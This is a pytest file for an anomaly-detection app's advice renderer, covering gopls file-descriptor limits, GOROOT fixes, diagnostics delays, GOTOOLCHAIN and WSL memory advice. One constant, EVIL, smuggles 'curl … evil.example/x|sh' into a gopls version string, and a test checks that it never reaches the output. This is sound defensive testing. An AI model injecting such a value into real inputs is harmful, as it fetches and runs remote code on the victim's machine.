"""Advice text follows the machine's versions (#12.3-#12.9): the Go that built gopls, the
installed Go, gopls itself and the WSL package; each point on machines that differ in it."""

from __future__ import annotations

from datetime import datetime, timezone

import numpy as np
import pytest

from apps.anomalies.chains import link_causes
from apps.anomalies.detectors import run_machine_rules
from apps.anomalies.evaluation import renderer
from apps.anomalies.models import Finding
from apps.anomalies.thresholds import thresholds
from tests.anomalies.helpers import machine, proc, system
from tests.factories import enroll

GIB = 2**30
EVIL = "v0.16.1;curl -s https://evil.example/x|sh;#"


def advice(snapshot, rule_id: str) -> dict:
    (det,) = [d for d in run_machine_rules(snapshot, thresholds()) if d.rule_id == rule_id]
    return renderer(snapshot)(det)[1]


def texts(adv: dict) -> str:
    return " ".join(s["text"] for s in adv["steps"])


def commands(adv: dict) -> list[str]:
    return [s["command"] for s in adv["steps"] if s["command"]]


def with_build_go(p, go_version: str):
    p.go_version = go_version
    return p


# ---- #12.3 file descriptors ----------------------------------------------------------------


def _fd_machine(build_go: str):
    return machine(with_build_go(proc(open_fds=19_000, fd_limit=20_000), build_go))


def test_fd_advice_for_go_119_builds_is_about_the_hard_limit():
    adv = advice(_fd_machine("go1.25.1"), "gopls_fd_near_limit")
    assert "hard open-file limit (20000)" in texts(adv)
    assert "ulimit -n (the soft limit) changes nothing" in texts(adv)
    assert "1024" not in texts(adv)
    assert not any(c.startswith("ulimit -n") for c in commands(adv))
    assert "ulimit -Hn" in commands(adv)


def test_fd_advice_for_older_builds_raises_the_soft_limit():
    adv = advice(_fd_machine("go1.18.10"), "gopls_fd_near_limit")
    assert "1024 is a common default" in texts(adv)
    assert 'ulimit -n "$(ulimit -Hn)"' in commands(adv)
    assert "changes nothing" not in texts(adv)


def test_fd_advice_for_an_unknown_build_names_both_and_how_to_check():
    adv = advice(_fd_machine(""), "gopls_fd_near_limit")
    assert "a gopls built with Go 1.19.0 or later" in texts(adv)
    assert "go version -m $(command -v gopls)" in texts(adv)


def test_the_finding_says_which_limit_it_measured():
    (det,) = [
        d
        for d in run_machine_rules(_fd_machine("go1.25.1"), thresholds())
        if d.rule_id == "gopls_fd_near_limit"
    ]
    assert "its hard limit" in det.explanation
    (old,) = [
        d
        for d in run_machine_rules(_fd_machine("go1.17.3"), thresholds())
        if d.rule_id == "gopls_fd_near_limit"
    ]
    assert "soft limit it was started with" in old.explanation


# ---- #12.4 GOROOT on Go 1.27 ---------------------------------------------------------------


def _goroot_machine(go: str):
    return machine(
        inventory={
            "goroot_check": {"consistent": False, "problems": ["GOROOT is another install"]},
            "go_env": {"GOVERSION": go},
        }
    )


def test_goroot_fix_on_go_127_does_not_use_go_env():
    adv = advice(_goroot_machine("go1.27.3"), "goroot_inconsistent")
    assert "go env -u GOROOT" not in commands(adv)
    assert "GOROOT cannot be modified" in texts(adv)


def test_goroot_fix_on_go_126_unsets_it_with_go_env():
    adv = advice(_goroot_machine("go1.26.2"), "goroot_inconsistent")
    assert commands(adv)[0] == "go env -u GOROOT"
    assert "GOROOT cannot be modified" not in texts(adv)


# ---- #12.5 diagnosticsDelay default --------------------------------------------------------


def _pegged(version: str):
    return machine(proc(cpu=150.0, version=version, minutes=40))


def test_diagnostics_delay_default_follows_the_gopls_version():
    new = advice(_pegged("v0.16.2"), "gopls_cpu_pegged")
    old = advice(_pegged("v0.11.0"), "gopls_cpu_pegged")
    assert "the default is 1s since v0.12.0" in texts(new)
    assert '"ui.diagnostic.diagnosticsDelay": "2s"' in str(new)
    assert "250ms" not in texts(new)
    assert "defaults to 250ms" in texts(old)
    assert '"ui.diagnostic.diagnosticsDelay": "1s"' in str(old)


# ---- #12.6 GOTOOLCHAIN needs Go 1.21 -------------------------------------------------------


def _unsupported(go: str):
    return machine(proc(version="v0.20.0"), inventory={"go_env": {"GOVERSION": go}})


def test_gotoolchain_is_suggested_only_to_go_121_and_later():
    new = advice(_unsupported("go1.22.1"), "gopls_go_unsupported")
    old = advice(_unsupported("go1.20.14"), "gopls_go_unsupported")
    assert "GOTOOLCHAIN=auto" in texts(new)
    assert "GOTOOLCHAIN=auto" not in texts(old)
    assert "this Go predates 1.21" in texts(old)


# ---- #12.7 the v0.12 redesign saved memory -------------------------------------------------


def test_old_gopls_is_described_as_using_four_times_the_memory():
    snapshot = machine(proc(version="v0.11.0"))
    (det,) = [
        d
        for d in run_machine_rules(snapshot, thresholds())
        if d.rule_id == "gopls_version_known_bad"
    ]
    assert "about 4× the memory" in det.explanation
    assert "75% more" not in det.explanation
    assert "75 % more" not in det.explanation
    assert not [
        d
        for d in run_machine_rules(machine(proc(version="v0.13.0")), thresholds())
        if d.rule_id == "gopls_version_known_bad"
    ]


# ---- #12.8 WSL-gated fixes -----------------------------------------------------------------


def _vm(version: str):
    cap = 15.5 * GIB
    return machine(
        proc(rss=3 * GIB),
        platform="wsl2",
        mem_total=cap,
        sys=system(wsl_mem_total=cap, mem_available=0.04 * cap),
        wsl_host_mem_bytes=32 * GIB,
        wsl_package_version=version,
    )


def test_current_wsl_gets_the_2_0_fix_and_hears_about_drop_cache():
    adv = advice(_vm("2.3.26.0"), "wsl_memory_pressure")
    assert "autoMemoryReclaim defaults to dropCache" in texts(adv)
    assert "predates 2.0.0" not in texts(adv)
    assert "check with wsl --version" not in texts(adv)


def test_old_wsl_gets_only_the_pre_2_0_fix():
    adv = advice(_vm("1.2.5.0"), "wsl_memory_pressure")
    assert "predates 2.0.0" in texts(adv)
    assert "autoMemoryReclaim" not in str(adv["steps"][0]["setting"])
    assert "dropCache" not in texts(adv)


def test_unknown_wsl_shows_both_after_the_rest_and_says_how_to_check():
    adv = advice(_vm(""), "wsl_memory_pressure")
    gated = [s for s in adv["steps"] if "check with wsl --version" in s["text"]]
    assert len(gated) == 2
    assert adv["steps"][-2:] == gated


def test_misplaced_keys_example_follows_the_wsl_version():
    for version, has_experimental in (("2.3.26.0", True), ("1.2.5.0", False)):
        snapshot = _vm(version)
        snapshot.inventory["wsl"] = {"wsl_conf": {"misplaced_keys": ["wsl2.memory"]}}
        settings = " ".join(
            s["setting"] or "" for s in advice(snapshot, "wsl_conf_misplaced_keys")["steps"]
        )
        assert ("[experimental]" in settings) is has_experimental
        assert "memory=23GB" in settings


# ---- #12.9 claims and the first fix --------------------------------------------------------


def _high(version: str):
    return machine(proc(rss=6 * GIB, heap=2 * GIB, version=version))


def test_upgrade_comes_first_only_for_a_gopls_older_than_the_rule_names():
    old = advice(_high("v0.11.0"), "gopls_memory_high")
    new = advice(_high("v0.20.0"), "gopls_memory_high")
    unknown = advice(_high(EVIL), "gopls_memory_high")
    assert old["steps"][0]["command"] == "go install golang.org/x/tools/gopls@latest"
    assert "go install golang.org/x/tools/gopls@latest" not in commands(new)
    assert unknown["steps"][0]["command"] != "go install golang.org/x/tools/gopls@latest"
    upgrade = [
        s for s in unknown["steps"] if s["command"] == "go install golang.org/x/tools/gopls@latest"
    ]
    assert "only for gopls before v0.12.0" in upgrade[0]["text"]
    assert "evil.example" not in str(unknown)


def test_leak_advice_does_not_lead_with_an_upgrade_on_a_current_gopls():
    grow = np.linspace(1.0, 3.0, 121) * GIB
    for version, first_is_upgrade in (("v0.11.0", True), ("v0.20.0", False)):
        p = proc(minutes=240, step=120.0, heap=grow, rss=grow * 1.3, version=version)
        adv = advice(machine(p), "gopls_memory_leak")
        is_upgrade = adv["steps"][0]["command"] == "go install golang.org/x/tools/gopls@latest"
        assert is_upgrade is first_is_upgrade


def test_unconfirmed_reports_are_not_called_leaks_or_fixed_bugs():
    from apps.anomalies.advice import knowledge_base

    kb = knowledge_base()
    assert "not confirmed leaks" in kb["gopls_memory_leak"].data["why"]
    assert "fixed by the v0.19" not in kb["gopls_cpu_busy_idle"].data["why"]
    assert "still open" in kb["gopls_cpu_busy_idle"].data["why"]


@pytest.mark.django_db
@pytest.mark.parametrize(
    "root_rule", ["gopls_invalid_flags", "gomemlimit_bad_suffix", "cache_disk_full"]
)
def test_a_crash_loop_is_linked_to_the_configuration_that_causes_it(root_rule):
    now = datetime(2026, 11, 23, 12, 0, tzinfo=timezone.utc)
    machine_row, _ = enroll()

    def finding(rule_id):
        return Finding.objects.create(
            machine=machine_row, rule_id=rule_id, subject=rule_id, severity="critical",
            title=rule_id, summary="", evidence={}, advice={}, first_seen=now, last_seen=now,
        )  # fmt: skip

    loop, root = finding("gopls_crash_loop"), finding(root_rule)
    link_causes([loop, root], now)
    loop.refresh_from_db()
    root.refresh_from_db()
    assert loop.caused_by == root
    assert root.evidence["explains"] == [loop.pk]
